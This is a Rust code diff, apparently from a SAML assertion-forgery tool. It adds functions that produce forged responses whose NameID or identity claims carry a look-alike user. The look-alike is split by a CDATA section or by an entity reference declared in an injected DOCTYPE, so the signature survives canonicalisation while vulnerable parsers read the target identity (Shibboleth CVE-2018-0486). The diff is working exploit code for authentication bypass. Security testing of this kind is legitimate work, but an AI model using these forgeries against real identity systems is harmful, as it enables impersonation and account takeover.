@@ -98,3 +98,37 @@ pub fn comment_claims(f: &Forge) -> Result<Forged, Skip> {
 pub fn cdata_name_id(f: &Forge) -> Result<Forged, Skip> {
     lookalike(f, Place::NameId, cdata)
 }
+
+/// The entity whose replacement text is the look-alike suffix.
+const SUFFIX_ENTITY: &str = "lookalike";
+
+/// `admin@contoso.com&lookalike;` in NameID, the entity declared as `.evil.test` in an
+/// internal DTD: C14N expands it (the signature holds), a reader that skips entity-reference
+/// nodes sees the target (Shibboleth CVE-2018-0486).
+pub fn entity_name_id(f: &Forge) -> Result<Forged, Skip> {
+    with_entity(f, Place::NameId)
+}
+
+/// The same entity in the identity claims (emailaddress, name/UPN).
+pub fn entity_claims(f: &Forge) -> Result<Forged, Skip> {
+    with_entity(f, Place::Claims)
+}
+
+/// `cdata` in the identity claims.
+pub fn cdata_claims(f: &Forge) -> Result<Forged, Skip> {
+    lookalike(f, Place::Claims, cdata)
+}
+
+/// The look-alike cut by an entity reference at `place`, the entity declared in a DOCTYPE.
+fn with_entity(f: &Forge, place: Place) -> Result<Forged, Skip> {
+    let forged = lookalike(f, place, |target| format!("{target}&{SUFFIX_ENTITY};"))?;
+    let body = crate::family::xsw::embeddable(&forged.xml);
+    let root = body
+        .get(1..)
+        .and_then(|b| b.split(|c: char| c.is_whitespace() || c == '>').next())
+        .unwrap_or("Response");
+    Ok(Forged {
+        xml: format!("<!DOCTYPE {root} [<!ENTITY {SUFFIX_ENTITY} \"{LOOKALIKE_SUFFIX}\">]>{body}"),
+        swap: forged.swap,
+    })
+}
